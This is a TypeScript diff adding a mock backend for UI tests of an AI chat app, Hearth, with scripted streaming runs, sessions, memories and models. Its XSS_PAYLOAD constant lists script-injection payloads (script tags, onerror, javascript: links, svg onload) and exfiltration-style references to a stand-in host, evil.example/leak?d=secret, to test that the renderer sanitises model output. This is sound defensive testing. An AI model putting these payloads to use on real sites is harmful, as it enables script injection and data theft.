@@ -1,0 +1,443 @@
+// A fake Hearth backend for UI tests: in-memory sessions (with branches),
+// profiles, memories, models, and scripted runs that stream AgentEvents
+// through the turn's Channel on timers. The message text picks the script:
+// "think", "plan", "tools", "slow", "fail", "notfound", "xss"; anything
+// else gets a short Markdown answer. Tests drive and inspect it through
+// `window.__hearthMock` (calls, config).
+import type {
+  AgentEvent,
+  ErrorInfo,
+  MemoryView,
+  MessageView,
+  ModelView,
+  ProfileView,
+  RunningView,
+  SessionView,
+  SummaryView,
+} from '../bindings';
+
+type Body = Omit<AgentEvent, 'session_id' | 'run_id' | 'is_subagent'> & Partial<AgentEvent>;
+interface ChannelLike {
+  id: number;
+}
+interface Msg extends MessageView {
+  session: string;
+}
+interface Sess {
+  id: string;
+  title: string;
+  profile: string;
+  leaf: number | null;
+  switches: { profile: string; after_message_id: number | null; at: number }[];
+  deleted: boolean;
+  created_at: number;
+  updated_at: number;
+}
+interface Run {
+  id: string;
+  session: string;
+  prompt: string | null;
+  events: AgentEvent[];
+  timers: ReturnType<typeof setTimeout>[];
+  channel: ChannelLike;
+  index: number;
+  text: string;
+  parent: number | null;
+  queue: { queue_id: string; text: string; at: number }[];
+  done: boolean;
+}
+
+export const XSS_PAYLOAD = [
+  'Here are some payloads:',
+  '',
+  '<script>window.__xss = "script"</script>',
+  '<img src=x onerror="window.__xss=\'img\'">',
+  '<img src="https://evil.example/leak?d=secret">',
+  '[click me](javascript:window.__xss=\'link\')',
+  '<a href="javascript:window.__xss=\'a\'">raw link</a>',
+  '<iframe src="https://evil.example/frame"></iframe>',
+  '<svg onload="window.__xss=\'svg\'"><foreignObject><img src="https://evil.example/fo"></foreignObject></svg>',
+  '<p style="background:url(https://evil.example/bg)">styled</p>',
+  '<form action="https://evil.example/f"><input name=a></form>',
+  '![x](https://evil.example/x.png)',
+  '<details open ontoggle="window.__xss=\'toggle\'">d</details>',
+  '',
+  'A [safe link](https://example.com/docs).',
+].join('\n\n');
+
+const now = () => Date.now();
+const err = (code: ErrorInfo['code'], message: string, recovery: ErrorInfo['recovery'] = 'retry'): ErrorInfo => ({ code, recovery, message, details: null });
+
+export class MockBackend {
+  calls: { cmd: string; args: Record<string, unknown> }[] = [];
+  config = { queueDelayMs: 1500, queueRunEnded: false, tickMs: 40, slowDelayMs: 60, reachable: true };
+  sessions = new Map<string, Sess>();
+  messages = new Map<number, Msg>();
+  runs = new Map<string, Run>();
+  prefs = { theme: 'system' as 'system' | 'light' | 'dark', last_session: null as string | null, sidebar_open: true };
+  url = 'http://127.0.0.1:11434';
+  nextId = 1;
+  nextSession = 1;
+  profiles: ProfileView[] = [
+    { name: 'Chat', model: 'qwen3:8b', system_prompt: 'You are helpful.', tools: [], planning_enabled: false, max_iterations: 10, temperature: null, think: null, workspace: null, backend: null },
+    { name: 'Agent', model: 'qwen3:8b', system_prompt: 'You use tools.', tools: null, planning_enabled: true, max_iterations: 20, temperature: 0.2, think: true, workspace: '/home/user/work', backend: null },
+  ];
+  defaultProfile = 'Chat';
+  persona = 'Be concise.';
+  toolNames = ['read_file', 'write_file', 'shell', 'web_fetch', 'spawn_agent', 'switch_profile'];
+  memories: (MemoryView & { history: { version: number; content: string; source: string; replaced_at: number }[]; deleted?: boolean })[] = [
+    { id: 1, content: 'The user prefers Rust.', source: 'memory_worker', session_id: 's1', run_id: 'r0', created_at: now() - 86400000, updated_at: now() - 3600000, version: 2, history: [{ version: 1, content: 'The user likes Rust.', source: 'memory_worker', replaced_at: now() - 3600000 }] },
+  ];
+  summaries: SummaryView[] = [
+    { id: 1, session_id: 's1', session_title: 'Welcome', upto_message_id: 2, content: 'The user said hello.', model: 'qwen3:8b', source: 'compaction', created_at: now() - 7200000 },
+  ];
+  models: ModelView[] = [
+    { name: 'qwen3:8b', size: 5_200_000_000, family: 'qwen3', parameter_size: '8.2B', quantization: 'Q4_K_M', capabilities: ['completion', 'tools', 'thinking'], context_length: 40960, settings: { num_ctx: 8192, keep_alive_secs: 1800 } },
+    { name: 'llama3.2:3b', size: 2_000_000_000, family: 'llama', parameter_size: '3.2B', quantization: 'Q4_K_M', capabilities: ['completion', 'tools'], context_length: 131072, settings: { num_ctx: 4096, keep_alive_secs: -1 } },
+  ];
+  running: RunningView[] = [
+    { name: 'qwen3:8b', size: 6_000_000_000, size_vram: 4_500_000_000, context_length: 8192, expires_at: new Date(now() + 1800_000).toISOString() },
+  ];
+
+  constructor(params: URLSearchParams) {
+    if (params.get('unreachable')) this.config.reachable = false;
+    const s = this.addSession('Welcome');
+    const u = this.addMessage(s, 'user', 'Hello there');
+    this.addMessage(s, 'assistant', 'Hi! How can I help?', { parent: u.id });
+    this.prefs.last_session = s.id;
+    const big = Number(params.get('big') ?? 0);
+    if (big > 0) {
+      const b = this.addSession(`Big ${big}`);
+      for (let i = 0; i < big; i++) {
+        const role = i % 2 === 0 ? 'user' : 'assistant';
+        const lines = 1 + ((i * 7) % 5);
+        const body = Array.from({ length: lines }, (_, k) => `Line ${k + 1} of message ${i}.`).join('\n\n');
+        this.addMessage(b, role, `${role === 'user' ? 'Question' : 'Answer'} #${i}\n\n${body}`);
+      }
+      this.prefs.last_session = b.id;
+    }
+  }
+
+  // ---- storage helpers
+  addSession(title: string): Sess {
+    const s: Sess = { id: `s${this.nextSession++}`, title, profile: this.defaultProfile, leaf: null, switches: [], deleted: false, created_at: now(), updated_at: now() };
+    this.sessions.set(s.id, s);
+    return s;
+  }
+  addMessage(s: Sess, role: MessageView['role'], content: string, extra: Partial<MessageView> & { parent?: number | null } = {}): Msg {
+    const parent = extra.parent !== undefined ? extra.parent : s.leaf;
+    const m: Msg = {
+      id: this.nextId++, parent_id: parent, run_id: extra.run_id ?? null, role, content, thinking: extra.thinking ?? null,
+      tool_calls: extra.tool_calls ?? [], tool_call_id: extra.tool_call_id ?? null, tool_name: extra.tool_name ?? null,
+      status: extra.status ?? 'complete', created_at: now(), session: s.id,
+    };
+    this.messages.set(m.id, m);
+    s.leaf = m.id;
+    s.updated_at = now();
+    return m;
+  }
+  path(s: Sess): Msg[] {
+    const out: Msg[] = [];
+    let id = s.leaf;
+    while (id !== null) {
+      const m = this.messages.get(id);
+      if (!m) break;
+      out.push(m);
+      id = m.parent_id;
+    }
+    return out.reverse();
+  }
+  children(session: string, parent: number | null): Msg[] {
+    return [...this.messages.values()].filter((m) => m.session === session && m.parent_id === parent);
+  }
+  view(s: Sess): SessionView {
+    const path = this.path(s);
+    const forks: number[][] = [];
+    const kids = new Map<number | null, Msg[]>();
+    for (const m of this.messages.values()) {
+      if (m.session !== s.id) continue;
+      const list = kids.get(m.parent_id) ?? [];
+      list.push(m);
+      kids.set(m.parent_id, list);
+    }
+    for (const m of path) {
+      const sibs = (kids.get(m.parent_id) ?? []).filter((x) => x.role === m.role);
+      if (sibs.length > 1 && !forks.some((f) => f.includes(m.id))) forks.push(sibs.map((x) => x.id));
+    }
+    const live = [...this.runs.values()].find((r) => r.session === s.id && !r.done);
+    return {
+      id: s.id, title: s.title, profile: s.profile, messages: path.map(({ session: _s, ...m }) => m), forks, switches: s.switches,
+      live: live ? { run_id: live.id, prompt: live.prompt, events: [...live.events], queued: live.queue.map(({ queue_id, text }) => ({ queue_id, text })) } : null,
+    };
+  }
+  sess(id: unknown): Sess {
+    const s = this.sessions.get(String(id));
+    if (!s || s.deleted) throw err('invalid_input', `no session ${String(id)}`, 'none');
+    return s;
+  }
+
+  // ---- IPC entry point
+  /** Like the real IPC, results are copies (serialized), never shared objects. */
+  async handle(cmd: string, args: Record<string, unknown>): Promise<unknown> {
+    const r = await this.dispatch(cmd, args);
+    return r === undefined ? null : structuredClone(r);
+  }
+
+  async dispatch(cmd: string, args: Record<string, unknown>): Promise<unknown> {
+    const logged: Record<string, unknown> = {};
+    for (const [k, v] of Object.entries(args)) logged[k] = v && typeof v === 'object' && 'id' in (v as object) && k.startsWith('on') ? '<channel>' : v;
+    this.calls.push({ cmd, args: logged });
+    // The mock trusts the argument shapes the app sends.
+    // eslint-disable-next-line @typescript-eslint/no-explicit-any
+    const a = args as any;
+    switch (cmd) {
+      case 'app_info': return { version: '0.1.0', demo: true, db_path: '/tmp/hearth-mock.db', ollama_url: this.url };
+      case 'get_prefs': return { ...this.prefs };
+      case 'set_prefs': this.prefs = { ...(a.prefs as typeof this.prefs) }; return null;
+      case 'open_link': return null;
+      case 'backend_status': return this.status();
+      case 'set_ollama_url': this.url = a.url; this.config.reachable = true; return this.status();
+      case 'list_sessions': return [...this.sessions.values()].filter((s) => !s.deleted).sort((x, y) => y.updated_at - x.updated_at)
+        .map((s) => ({ id: s.id, title: s.title, messages: this.path(s).length, created_at: s.created_at, updated_at: s.updated_at, live: [...this.runs.values()].some((r) => r.session === s.id && !r.done) }));
+      case 'search_sessions': return this.search(String(a.query));
+      case 'new_session': return this.addSession('New chat').id;
+      case 'open_session': return this.view(this.sess(a.sessionId));
+      case 'rename_session': this.sess(a.sessionId).title = a.title; return null;
+      case 'delete_session': this.sess(a.sessionId).deleted = true; return null;
+      case 'restore_session': { const s = this.sessions.get(a.sessionId); if (s) s.deleted = false; return null; }
+      case 'export_session': { const s = this.sess(a.sessionId); return `/home/user/Hearth/exports/${s.title}.${a.format === 'json' ? 'json' : 'md'}`; }
+      case 'switch_branch': { const s = this.sess(a.sessionId); let id: number = a.messageId; for (;;) { const kids = this.children(s.id, id); const last = kids[kids.length - 1]; if (!last) break; id = last.id; } s.leaf = id; return this.view(s); }
+      case 'send_message': { const s = this.sess(a.sessionId); const u = this.addMessage(s, 'user', a.text); return this.startRun(s, a.text, a.text, u.id, a.onEvent); }
+      case 'regenerate': {
+        const s = this.sess(a.sessionId);
+        let parent: number | null;
+        if (a.messageId === null) {
+          const path = this.path(s);
+          const lastUser = [...path].reverse().find((m) => m.role === 'user');
+          if (!lastUser) throw err('invalid_input', 'nothing to retry', 'none');
+          parent = lastUser.id;
+        } else parent = this.messages.get(a.messageId)?.parent_id ?? null;
+        s.leaf = parent;
+        const prompt = parent !== null ? (this.messages.get(parent)?.content ?? '') : '';
+        return this.startRun(s, null, prompt, parent, a.onEvent);
+      }
+      case 'edit_and_resend': { const s = this.sess(a.sessionId); const old = this.messages.get(a.messageId); s.leaf = old?.parent_id ?? null; const u = this.addMessage(s, 'user', a.text); return this.startRun(s, a.text, a.text, u.id, a.onEvent); }
+      case 'stop_run': return this.stop(String(a.runId));
+      case 'queue_message': {
+        const run = [...this.runs.values()].find((r) => r.session === a.sessionId && !r.done);
+        if (!run || this.config.queueRunEnded) return { kind: 'run_ended' };
+        const q = { queue_id: `q${this.nextId++}`, text: String(a.text), at: now() };
+        run.queue.push(q);
+        return { kind: 'queued', queue_id: q.queue_id };
+      }
+      case 'cancel_queued': { for (const r of this.runs.values()) { const i = r.queue.findIndex((q) => q.queue_id === a.queueId); if (i >= 0) { r.queue.splice(i, 1); return true; } } return false; }
+      case 'list_profiles': return this.profilesView();
+      case 'save_profile': { const p = a.profile as ProfileView; const prev = (a.previousName as string | null) ?? p.name; const i = this.profiles.findIndex((x) => x.name === prev); if (i >= 0) this.profiles[i] = p; else this.profiles.push(p); return this.profilesView(); }
+      case 'delete_profile': this.profiles = this.profiles.filter((p) => p.name !== a.name); return this.profilesView();
+      case 'set_default_profile': this.defaultProfile = a.name; return this.profilesView();
+      case 'set_persona': this.persona = a.persona; return this.profilesView();
+      case 'switch_profile': { const s = this.sess(a.sessionId); s.profile = a.name; s.switches.push({ profile: a.name, after_message_id: s.leaf, at: now() }); return null; }
+      case 'list_memories': return this.memories.filter((m) => !m.deleted).map(({ history: _h, deleted: _d, ...m }) => m);
+      case 'memory_history': return this.memories.find((m) => m.id === a.id)?.history ?? [];
+      case 'add_memory': { const id = this.nextId++; this.memories.push({ id, content: a.content, source: 'user', session_id: null, run_id: null, created_at: now(), updated_at: now(), version: 1, history: [] }); return id; }
+      case 'edit_memory': { const m = this.memories.find((x) => x.id === a.id); if (m) { m.history.push({ version: m.version, content: m.content, source: m.source, replaced_at: now() }); m.content = a.content; m.version++; m.source = 'user'; m.updated_at = now(); } return null; }
+      case 'delete_memory': { const m = this.memories.find((x) => x.id === a.id); if (m) m.deleted = true; return null; }
+      case 'memory_summary': return this.memories.filter((m) => !m.deleted).map((m) => m.content).join(' ');
+      case 'list_summaries': return this.summaries;
+      case 'edit_summary': { const x = this.summaries.find((s) => s.id === a.id); if (x) x.content = a.content; return null; }
+      case 'delete_summary': this.summaries = this.summaries.filter((s) => s.id !== a.id); return null;
+      case 'list_models': return this.models;
+      case 'running_models': return this.running;
+      case 'check_model_settings': return { warnings: this.warnings(a.model, a.numCtx, a.keepAliveSecs) };
+      case 'set_model_settings': { const m = this.models.find((x) => x.name === a.model); if (m) m.settings = { num_ctx: a.numCtx, keep_alive_secs: a.keepAliveSecs }; return { warnings: this.warnings(a.model, a.numCtx, a.keepAliveSecs) }; }
+      case 'preload_model': { const m = this.models.find((x) => x.name === a.model); if (m && !this.running.some((r) => r.name === m.name)) this.running = [...this.running, { name: m.name, size: m.size, size_vram: m.size, context_length: m.settings.num_ctx, expires_at: null }]; return null; }
+      case 'unload_model': this.running = this.running.filter((r) => r.name !== a.model); return null;
+      case 'pull_model': return this.pull(String(a.name), a.onProgress as ChannelLike);
+      default: throw err('internal', `mock: unknown command ${cmd}`, 'none');
+    }
+  }
+
+  status() {
+    return this.config.reachable
+      ? { url: this.url, reachable: true, version: '0.12.0', error: null }
+      : { url: this.url, reachable: false, version: null, error: err('backend_unreachable', `connection refused (${this.url})`, 'start_server') };
+  }
+  profilesView() {
+    return { profiles: this.profiles.map((p) => ({ ...p })), default_profile: this.defaultProfile, persona: this.persona, tool_names: this.toolNames };
+  }
+  warnings(model: string, numCtx: number, keep: number): string[] {
+    const m = this.models.find((x) => x.name === model);
+    const w: string[] = [];
+    if (m?.context_length && numCtx > m.context_length) w.push(`num_ctx ${numCtx} is more than ${model} supports (${m.context_length}).`);
+    if (m && numCtx !== m.settings.num_ctx && this.running.some((r) => r.name === model)) w.push(`Changing num_ctx reloads ${model}, which is loaded now.`);
+    if (keep >= 0 && keep < 60) w.push('A keep_alive under a minute makes the model reload often.');
+    return w;
+  }
+  search(q: string) {
+    const out = [];
+    const needle = q.toLowerCase();
+    for (const s of this.sessions.values()) {
+      if (s.deleted) continue;
+      for (const m of this.path(s)) {
+        const at = m.content.toLowerCase().indexOf(needle);
+        if (at < 0 || m.role === 'tool') continue;
+        out.push({ session_id: s.id, session_title: s.title, message_id: m.id, role: m.role, parts: [
+          { text: m.content.slice(Math.max(0, at - 20), at), hit: false },
+          { text: m.content.slice(at, at + q.length), hit: true },
+          { text: m.content.slice(at + q.length, at + q.length + 40), hit: false },
+        ] });
+        if (out.length > 50) return out;
+      }
+    }
+    return out;
+  }
+  async pull(name: string, ch: ChannelLike): Promise<null> {
+    const total = 1000;
+    const steps = [{ status: 'pulling manifest', total: null, completed: null, error: null }];
+    for (let c = 200; c <= total; c += 200) steps.push({ status: `pulling ${name}`, total, completed: c, error: null } as never);
+    steps.push({ status: 'success', total, completed: total, error: null } as never);
+    let i = 0;
+    for (const p of steps) {
+      await new Promise((r) => setTimeout(r, 120));
+      this.deliver(ch, i++, p);
+    }
+    if (!this.models.some((m) => m.name === name)) this.models = [...this.models, { ...this.models[0]!, name }];
+    return null;
+  }
+
+  deliver(ch: ChannelLike, index: number, message: unknown): void {
+    const internals = (window as unknown as { __TAURI_INTERNALS__: { runCallback: (id: number, d: unknown) => void } }).__TAURI_INTERNALS__;
+    internals.runCallback(ch.id, { index, message });
+  }
+
+  // ---- runs
+  startRun(s: Sess, prompt: string | null, text: string, parent: number | null, channel: ChannelLike): string {
+    if (!this.config.reachable) throw err('backend_unreachable', `Ollama is not reachable at ${this.url}`, 'start_server');
+    const run: Run = { id: `run${this.nextId++}`, session: s.id, prompt, events: [], timers: [], channel, index: 0, text: '', parent, queue: [], done: false };
+    this.runs.set(run.id, run);
+    const profile = this.profiles.find((p) => p.name === s.profile) ?? this.profiles[0]!;
+    const script = this.script(text, profile.model);
+    this.emit(run, { type: 'run_started', model: text.includes('notfound') ? 'ghost:7b' : profile.model, profile: s.profile, context_window: 8192 } as Body, 10);
+    let t = 30;
+    for (const step of script) {
+      t += step.delay ?? this.config.tickMs;
+      this.emit(run, step.ev, t);
+    }
+    return run.id;
+  }
+
+  emit(run: Run, body: Body, at: number): void {
+    run.timers.push(setTimeout(() => this.send(run, body), at));
+  }
+
+  send(run: Run, body: Body): void {
+    if (run.done) return;
+    // Queued messages are taken in between deltas after a delay.
+    const due = run.queue.find((q) => now() - q.at >= this.config.queueDelayMs);
+    if (due) {
+      run.queue = run.queue.filter((q) => q !== due);
+      this.addMessage(this.sessions.get(run.session)!, 'user', due.text, { run_id: run.id });
+      this.raw(run, { type: 'queued_message_sent', queue_id: due.queue_id, text: due.text } as Body);
+    }
+    if (body.type === 'text_delta' && !body.is_subagent) run.text += (body as { delta: string }).delta;
+    this.raw(run, body);
+    const s = this.sessions.get(run.session)!;
+    if (body.type === 'stream_end' && !body.is_subagent) {
+      this.finish(run);
+      const stored = (body as { stored?: Partial<MessageView>[] }).stored;
+      if (stored) for (const m of stored) this.addMessage(s, m.role ?? 'assistant', m.content ?? '', { ...m, run_id: run.id });
+      else this.addMessage(s, 'assistant', run.text.replace(/<think>[\s\S]*?<\/think>/g, ''), { run_id: run.id });
+    } else if (body.type === 'error' && !body.is_subagent) {
+      this.finish(run);
+      if (run.text) this.addMessage(s, 'assistant', run.text, { run_id: run.id, status: 'error' });
+    }
+  }
+
+  raw(run: Run, body: Body): void {
+    const ev = { session_id: run.session, run_id: run.id, is_subagent: false, ...body } as AgentEvent;
+    delete (ev as { stored?: unknown }).stored;
+    run.events.push(ev);
+    this.deliver(run.channel, run.index++, ev);
+  }
+
+  finish(run: Run): void {
+    run.done = true;
+    for (const t of run.timers) clearTimeout(t);
+  }
+
+  stop(runId: string): boolean {
+    const run = this.runs.get(runId);
+    if (!run || run.done) return false;
+    run.done = true;
+    for (const t of run.timers) clearTimeout(t);
+    run.done = false;
+    this.raw(run, { type: 'stream_stopped', reason: 'user', partial_text: run.text } as Body);
+    run.done = true;
+    this.addMessage(this.sessions.get(run.session)!, 'assistant', run.text, { run_id: run.id, status: 'interrupted' });
+    return true;
+  }
+
+  script(text: string, model: string): { ev: Body; delay?: number }[] {
+    const deltas = (s: string, n = 6) => {
+      const out: { ev: Body }[] = [];
+      const size = Math.max(1, Math.ceil(s.length / n));
+      for (let i = 0; i < s.length; i += size) out.push({ ev: { type: 'text_delta', delta: s.slice(i, i + size) } as Body });
+      return out;
+    };
+    const usage = { type: 'usage', usage: { prompt_tokens: 1200, completion_tokens: 300, load_ms: 5, prompt_eval_ms: 100, eval_ms: 6000, tokens_per_second: 50, done_reason: 'stop' } } as Body;
+    const end = (stored?: Partial<MessageView>[]) => ({ ev: { type: 'stream_end', iterations: 1, ...(stored ? { stored } : {}) } as Body });
+    if (text.includes('xss')) return [...deltas(XSS_PAYLOAD, 4), { ev: usage }, end()];
+    if (text.includes('notfound')) {
+      return [{ ev: { type: 'error', error: err('model_not_found', 'model "ghost:7b" not found, try pulling it first', 'pull_model'), partial_text: '' } as Body }];
+    }
+    if (text.includes('fail')) {
+      return [...deltas('This answer will break in the mid', 3), { ev: { type: 'error', error: err('stream_truncated', 'The stream ended early.'), partial_text: 'This answer will break in the mid' } as Body }];
+    }
+    if (text.includes('slow')) {
+      const words = Array.from({ length: 300 }, (_, i) => `word${i} `);
+      return [...words.map((w) => ({ ev: { type: 'text_delta', delta: w } as Body, delay: this.config.slowDelayMs })), { ev: usage }, end()];
+    }
+    if (text.includes('think')) {
+      return [
+        { ev: { type: 'thinking_delta', delta: 'Native thinking: the user asks ' } as Body },
+        { ev: { type: 'thinking_delta', delta: 'about thinking.' } as Body },
+        { ev: { type: 'text_delta', delta: '<thi' } as Body },
+        { ev: { type: 'text_delta', delta: 'nk>Tagged reasoning here.</th' } as Body },
+        { ev: { type: 'text_delta', delta: 'ink>The final answer is **42**.' } as Body },
+        { ev: usage },
+        end([{ role: 'assistant', content: 'The final answer is **42**.', thinking: 'Native thinking: the user asks about thinking. Tagged reasoning here.' }]),
+      ];
+    }
+    if (text.includes('plan')) {
+      return [{ ev: { type: 'plan_ready', plan: '1. Look around\n2. Answer' } as Body }, ...deltas('Done following the plan.', 3), { ev: usage }, end()];
+    }
+    if (text.includes('tools')) {
+      const sub = (b: Body): Body => ({ ...b, is_subagent: true, session_id: 'subagent_abc123', run_id: 'subrun1', parent_run_id: 'x', parent_call_id: 'call_spawn' } as Body);
+      return [
+        { ev: { type: 'tool_started', call_id: 'call_read', name: 'read_file', arguments: { path: 'README.md' } } as Body },
+        { ev: { type: 'tool_started', call_id: 'call_spawn', name: 'spawn_agent', arguments: { task: 'summarize' } } as Body },
+        { ev: usage },
+        { ev: { type: 'tool_event', call_id: 'call_read', name: 'read_file', outcome: 'ok', output: '# Readme contents', duration_ms: 12 } as Body },
+        { ev: sub({ type: 'run_started', model, profile: 'Agent', context_window: 8192 } as Body) },
+        { ev: sub({ type: 'tool_started', call_id: 'call_sub_shell', name: 'shell', arguments: { cmd: 'ls' } } as Body), delay: 150 },
+        { ev: sub({ type: 'tool_event', call_id: 'call_sub_shell', name: 'shell', outcome: 'error', output: 'permission denied', duration_ms: 3 } as Body), delay: 150 },
+        { ev: sub({ type: 'text_delta', delta: 'Sub-agent summary text.' } as Body) },
+        { ev: sub({ type: 'stream_end', iterations: 2 } as Body) },
+        { ev: { type: 'tool_event', call_id: 'call_spawn', name: 'spawn_agent', outcome: 'ok', output: 'Sub-agent summary text.', duration_ms: 480 } as Body },
+        ...deltas('Both tools finished.', 2),
+        { ev: usage },
+        end([
+          { role: 'assistant', content: '', tool_calls: [{ id: 'call_read', name: 'read_file', arguments: { path: 'README.md' } }, { id: 'call_spawn', name: 'spawn_agent', arguments: { task: 'summarize' } }] },
+          { role: 'tool', content: '# Readme contents', tool_call_id: 'call_read', tool_name: 'read_file' },
+          { role: 'tool', content: 'Sub-agent summary text.', tool_call_id: 'call_spawn', tool_name: 'spawn_agent' },
+          { role: 'assistant', content: 'Both tools finished.' },
+        ]),
+      ];
+    }
+    return [
+      ...deltas('Hello from **Hearth**. Here is code:\n\n```rust\nfn main() {\n    println!("hi");\n}\n```\n\nAnd a [link](https://example.com).', 8),
+      { ev: usage },
+      end(),
+    ];
+  }
+}
